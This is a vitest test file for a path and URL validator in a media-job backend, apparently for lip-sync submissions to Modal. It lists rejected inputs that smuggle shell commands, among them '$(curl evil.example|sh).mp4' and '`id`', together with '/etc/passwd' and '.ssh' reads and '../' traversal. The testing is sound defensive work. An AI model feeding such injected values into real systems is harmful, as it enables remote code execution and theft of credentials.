import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { anyText } from '../helpers/any-text.ts'
import { checkModalInput } from '../../src/backend/modal/check.ts'
import { startModal } from '../helpers/modal.ts'

const face = { video_path: 'data/video/yongen.mp4' }
const speech = { audio_path: 'data/audio/yongen.wav' }
const url = (path: string) => `https://media.example/${path}`

describe('a submit for Modal', () => {
  test.each([
    'face.mp4',
    'data/video/yongen.mp4',
    '_private/Face-2.final.MP4',
    '4/k',
    `${'deep/'.repeat(200)}face.mp4`,
  ])('may have the path %s', (path) => {
    expect(checkModalInput({ video_path: path, audio_path: path })).toEqual([])
  })

  test.each([
    ...['data/$(id).mp4', '$(curl evil.example|sh).mp4', '`id`.mp4', 'a;id', 'a&id', 'a|id', 'a>b', 'a<b', 'a b.mp4'],
    ...['a\nid', 'face.mp4\n', 'a\tb', "a'b", 'a"b', 'a*b', 'a?b', '~/a', '#a', 'a=b', 'a,b', '{a,b}', '!a', '%24(id)'],
    ...['-i', '-version', 'data/-y', '.ssh/id', 'data/.hidden', 'data/../face.mp4', './face.mp4', '/etc/passwd'],
    ...['a//b', 'a/', 'Ünïcode.wav', 'a\u200bb', 'a\u0000b', 'a\\b'],
  ])('must not have the path %j, in either field', (path) => {
    expect(checkModalInput({ video_path: path, ...speech })).toEqual([
      { path: '/video_path', message: expect.stringContaining('letters, digits') as string },
    ])
    expect(checkModalInput({ ...face, audio_path: path })).toMatchObject([{ path: '/audio_path' }])
  })

  test('has no character in a path that is special to a shell or ffmpeg', () => {
    fc.assert(
      fc.property(anyText({ minLength: 1, maxLength: 12 }), (path) => {
        const isTaken = checkModalInput({ video_path: path, ...speech }).length === 0
        if (isTaken) expect(path).toMatch(/^[A-Za-z0-9_][A-Za-z0-9_./-]*$/)
      }),
      { numRuns: 3_000 },
    )
  })

  test.each([
    'face.mp4?X-Amz-Signature=0f&X-Amz-Credential=a%2Fb;c=(d)',
    "фото/%D1%84.jpg?a[]=1&b=~c!$@:*+,=_-'",
    'Foo_(bar).jpg#t=1,2',
  ])('may have a URL with any character of RFC 3986 and RFC 3987: %s', (path) => {
    expect(checkModalInput({ video_url: url(path), audio_url: url(path) })).toEqual([])
  })

  test.each(['`id`', '"', 'a>b', 'a<b', '${a|b}', '{a}', 'a|sh', 'a^b'])('must not have a URL with %s', (path) => {
    for (const field of ['video_url', 'image_url', 'audio_url']) {
      expect(checkModalInput({ [field]: url(path) })).toMatchObject([{ path: `/${field}` }])
    }
  })

  test('has one error a field, also if a host is not on the list', () => {
    const found = checkModalInput({ video_url: url('`id`'), audio_url: url('speech.wav') }, ['other.example'])
    expect(found.map(({ path }) => path)).toEqual(['/video_url', '/audio_url'])
  })
})

test('a stored job with a path that is special to a shell never reaches the function', async () => {
  const { backend, plane, close } = await startModal()
  const input = { video_path: 'data/video/$(id).mp4', ...speech }
  const signal = new AbortController().signal
  const spawned = await backend.spawn({ jobId: 'job', attempt: 1, caller: 'anonymous', input, version: 'v15' }, signal)
  expect(spawned).toEqual({
    kind: 'rejected',
    code: 'input_unavailable',
    error: expect.stringMatching(/^video_path must be/) as string,
  })
  expect(plane.stats()).toMatchObject({ spawned: 0 })
  await close()
})
